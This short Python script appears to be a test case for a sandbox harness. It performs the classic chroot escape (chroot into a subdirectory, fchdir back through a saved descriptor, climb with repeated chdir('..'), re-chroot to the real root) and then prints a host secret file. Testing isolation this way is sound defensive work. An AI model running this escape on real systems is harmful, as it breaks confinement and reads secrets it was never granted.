# Tries: the classic way out of a chroot.
# Success: a secret of the host is printed.
import os

import host

os.mkdir("jail")
here = os.open(".", os.O_RDONLY)
os.chroot("jail")
os.fchdir(here)
for _ in range(50):
    os.chdir("..")
os.chroot(".")
print(open(host.SECRET_FILE).read())
